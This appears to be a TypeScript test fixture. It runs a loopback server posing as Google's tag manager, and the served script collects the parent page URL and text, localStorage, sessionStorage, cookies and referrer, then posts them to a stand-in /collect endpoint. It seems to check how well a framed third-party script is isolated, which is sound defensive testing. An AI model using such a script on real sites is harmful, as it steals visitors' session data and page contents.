import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What the stand-in was asked and sent. */
export type Heard = { url: string; headers: IncomingHttpHeaders; body: string };
export type TagManagerStandIn = { origin: string; heard: Heard[]; close: () => Promise<void> };

/** Runs in the frame: sends each event of its data layer home, with all that a script can find out there. */
function container(origin: string): void {
  const tries = (read: () => unknown): string => {
    try {
      return String(read());
    } catch {
      return 'refused';
    }
  };
  const found = () => ({
    page: tries(() => window.parent.location.href),
    document: tries(() => window.parent.document.body.textContent),
    stored: tries(() => JSON.stringify(localStorage)),
    session: tries(() => JSON.stringify(sessionStorage)),
    cookie: tries(() => document.cookie),
    referrer: document.referrer,
    ancestors: tries(() => [...location.ancestorOrigins].join(' ')),
  });
  const send = (event: unknown) =>
    void fetch(`${origin}/collect`, {
      ...{ method: 'POST', mode: 'no-cors', keepalive: true },
      body: JSON.stringify({ event, found: found() }),
    });
  const layer = (window as unknown as { dataLayer: unknown[] }).dataLayer;
  for (const event of layer) send(event);
  layer.push = (...events) => {
    for (const event of events) send(event);
    return Array.prototype.push.apply(layer, events);
  };
}

/** A tag manager on the loopback, in the place of Google's. */
export async function startTagManager(): Promise<TagManagerStandIn> {
  const heard: Heard[] = [];
  let origin = '';
  const server = createServer((request, response) => {
    let body = '';
    request.setEncoding('utf8');
    request.on('data', (part) => {
      body += String(part);
    });
    request.on('end', () => {
      heard.push({ url: request.url ?? '', headers: request.headers, body });
      response.writeHead(200, { 'content-type': 'text/javascript' });
      response.end(
        request.url?.startsWith('/gtm.js') ? `(${container.toString()})(${JSON.stringify(origin)})` : '',
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    ...{ origin, heard },
    close: () => new Promise((resolve) => void server.close(() => resolve())),
  };
}
